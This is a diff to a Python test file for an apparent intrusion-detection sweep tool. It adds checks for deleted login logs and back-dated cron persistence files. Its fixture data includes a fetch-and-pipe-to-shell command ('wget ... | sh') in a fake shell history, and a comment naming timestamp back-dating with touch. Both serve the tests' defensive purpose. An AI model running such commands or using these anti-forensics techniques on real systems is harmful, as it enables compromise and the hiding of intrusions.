@@ -6,7 +6,7 @@ from typing import Any
 
 import pytest
 
-from aftermath.secure.sweep.checks import RecentPersistence
+from aftermath.secure.sweep.checks import RecentPersistence, back_dated
 from aftermath.secure.sweep.model import Severity
 from aftermath.secure.sweep.run import apply_checks, probe_params
 from aftermath.secure.sweep.techniques import pam_problem
@@ -99,13 +99,15 @@ def test_emptied_logs_and_histories_are_told_from_rotation() -> None:
              "rotated_mtime": NOW - 30 * DAY},
             {"path": "/var/log/syslog", "exists": True, "size": 0, "mtime": NOW - 60, "ctime": NOW - 60,
              "rotated_mtime": NOW - 61},  # just rotated
-            {"path": "/var/log/messages", "exists": False, "rotated_mtime": None}]  # never there
+            {"path": "/var/log/messages", "exists": False, "rotated_mtime": None},  # never there
+            {"path": "/var/log/wtmp", "exists": False, "rotated_mtime": NOW - 20 * DAY}]  # deleted, wtmp.1 kept
     hist = [{"path": "/root/.bash_history", "link": "/dev/null", "size": 9, "mtime": NOW, "ctime": NOW, "tail": ""},
             {"path": "/home/a/.bash_history", "link": None, "size": 40, "mtime": NOW - 500 * DAY,
              "ctime": NOW - 500 * DAY, "tail": "ls\nwget -q http://x/y -O- | sh\n"}]
     said = whats(clean_facts(logs=logs, histories=hist), "cover-tracks")
     assert said == ["shell history /root/.bash_history is a link to /dev/null",
                     "log /var/log/auth.log was emptied recently (not by log rotation)",
+                    "log /var/log/wtmp is missing but its older copies are there",
                     "shell history /home/a/.bash_history runs a downloaded or temp-folder script: "
                     "wget -q http://x/y -O- | sh"]
 
@@ -123,3 +125,14 @@ def test_a_process_renamed_away_from_its_program_and_scripts_is_named() -> None:
     found = {f.evidence["pid"]: f.severity for f in apply_checks(host(clean_facts(processes=procs))).findings
              if f.check == "renamed-process"}
     assert found == {10: Severity.HIGH, 13: Severity.MEDIUM}
+
+
+def test_a_back_dated_persistence_file_is_named_as_back_dated() -> None:
+    row = {**persist("/etc/cron.d/backup", "cron", "0 3 * * * root /usr/local/bin/b\n", age=0.1 * DAY),
+           "mtime": NOW - 365 * DAY}  # touch -d '1 year ago': the change time still says today
+    [what] = whats(clean_facts(persistence=[row]), "recent-persistence")
+    assert what == "cron file /etc/cron.d/backup changed 0.1 days ago (back-dated: its modification time says " \
+                   "365 days ago)"
+    fresh = persist("/etc/cron.d/new", "cron", "* * * * * root true\n", age=0.1 * DAY)
+    assert "back-dated" not in whats(clean_facts(persistence=[fresh]), "recent-persistence")[0]
+    assert back_dated(NOW - 20 * DAY, NOW - 19.5 * DAY, NOW - 14 * DAY) is False  # both before the window
